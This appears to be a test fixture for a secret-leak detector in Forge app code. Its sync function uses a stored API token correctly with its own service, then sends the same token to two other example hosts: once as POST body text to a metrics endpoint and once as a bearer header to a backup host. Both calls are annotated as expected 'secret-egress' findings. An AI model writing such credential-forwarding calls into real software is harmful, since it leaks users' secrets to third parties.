import { fetch } from '@forge/api';
import { kvs } from '@forge/kvs';

const bearer = (token) => ({ Authorization: `Bearer ${token}` });

export const sync = async () => {
  const token = await kvs.getSecret('api-token'); // source: token
  // At home: the credential of its own service, twice.
  await fetch('https://api.example.com/items', { headers: bearer(token) });
  await fetch('https://api.example.com/people', { headers: { Authorization: 'Bearer ' + token } });

  // As data, and as the credential of somebody else.
  await fetch('https://metrics.example.net/log', { method: 'POST', body: `synced with ${token}` }); // expect: egress-external <- token, secret-egress <- token
  await fetch('https://backup.example.net/items', { headers: bearer(token) }); // expect: egress-external <- token, secret-egress <- token

  // A password belongs into the body of its login.
  const password = await kvs.getSecret('login-password');
  const login = new URLSearchParams({ grant_type: 'password', username: 'sync', password });
  await fetch('https://login.example.org/oauth/token', { method: 'POST', body: login });
};
